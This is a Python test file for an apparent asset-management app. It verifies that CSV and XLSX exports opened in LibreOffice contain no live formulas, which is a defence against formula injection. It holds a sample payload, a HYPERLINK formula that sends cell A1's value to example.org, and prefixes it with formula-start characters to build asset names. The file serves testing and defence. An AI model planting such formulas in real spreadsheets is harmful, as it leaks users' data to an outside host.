"""B4, exports opened by a real spreadsheet: no cell of a CSV or XLSX file is a formula there.

LibreOffice is no part of the project; where it is not installed the test says so."""

import re
import shutil
import subprocess
from pathlib import Path

import pytest

from assetry.domain.assets.exports import assets_table, list_assets_to_export
from assetry.platform.audit.signed import signed
from assetry.platform.exports.formats import FORMATS, pieces_of
from tests.attack.test_b4_formulas import BEFORE, STARTS
from tests.cast import Cast
from tests.factories import make_asset, make_category

pytestmark = [pytest.mark.django_db, pytest.mark.soak]
OFFICE = shutil.which("soffice")
PAYLOAD = 'HYPERLINK("http://example.org/?"&A1;"x")'
CONTROLS = re.compile(r"[\x00-\x08\x0a-\x1f]")  # no name holds them
FORMULA = re.compile(r'table:formula="([^"]*)"')


def opened(path: Path) -> str:
    """The file as LibreOffice reads it, as its own flat XML."""
    assert OFFICE is not None
    profile = f"-env:UserInstallation=file://{path.parent / 'profile'}"
    command = [OFFICE, profile, "--headless", "--convert-to", "fods", "--outdir", str(path.parent), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return path.with_suffix(".fods").read_text()


def names() -> list[str]:
    """What a name may begin with that a spreadsheet could take for a formula."""
    made = [f"{before}{start}{PAYLOAD}" for start in STARTS for before in BEFORE]
    return [name for name in made if not CONTROLS.search(name)]


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("code", ["csv", "xlsx"])
def test_b4_libreoffice_finds_no_formula(cast: Cast, tmp_path: Path, code: str) -> None:
    with signed("test"):
        category = make_category("Laptop")
        for name in names():
            make_asset(cast.company, category=category, name=name[:200])
    actor = cast.actor("asset_manager")
    table = assets_table(actor, list_assets_to_export(actor), category.kind)
    path = tmp_path / f"assets.{code}"
    path.write_bytes(b"".join(pieces_of(table, FORMATS[code])))
    shown = opened(path)
    assert shown.count("HYPERLINK") >= len(names())
    assert FORMULA.findall(shown) == []


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_b4_the_look_finds_a_formula_where_there_is_one(tmp_path: Path) -> None:
    path = tmp_path / "bare.csv"
    path.write_text("Name\n=1+1\n")
    assert FORMULA.findall(opened(path)) == ["of:=1+1"]
